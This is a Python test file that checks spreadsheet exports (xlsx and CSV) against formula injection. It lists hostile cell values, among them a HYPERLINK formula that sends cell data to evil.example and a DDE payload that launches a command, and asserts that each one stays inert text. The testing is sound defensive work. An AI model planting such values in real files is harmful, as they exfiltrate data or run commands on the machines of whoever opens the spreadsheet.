"""Issue 11, finding 9: a person named =HYPERLINK(...) never becomes a live formula in
an export; the files are opened again and checked."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from openpyxl import Workbook, load_workbook

from thidua.lib.tabular import SafeCsvWriter, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_xlsx_cells_that_look_like_formulas_stay_text():
    book = Workbook()
    book.active.append(["Họ và tên", "Số tiền"])
    for name in HOSTILE:
        book.active.append([name, -3510000])
    data = xlsx_bytes(book)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no formula element at all
    sheet = load_workbook(io.BytesIO(data)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert names == HOSTILE  # the text is kept exactly
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))
    assert all(row[0].quotePrefix for row in sheet.iter_rows(min_row=2))
    assert sheet["B2"].value == -3510000  # numbers stay numbers


def test_csv_cells_that_look_like_formulas_are_prefixed():
    out = io.StringIO()
    SafeCsvWriter(out).writerows([[name, "Xã Tân Uyên", 12] for name in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in rows] == ["'" + name for name in HOSTILE]
    assert rows[0][1:] == ["Xã Tân Uyên", "12"]


def test_every_export_saves_through_the_shared_helper():
    """A new export that calls Workbook.save or csv.writer directly fails here."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        if path.name == "tabular.py":
            continue
        text = path.read_text()
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text) or (
            "Workbook()" in text and re.search(r"\b(wb|book|workbook)\.save\(", text)
        ):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
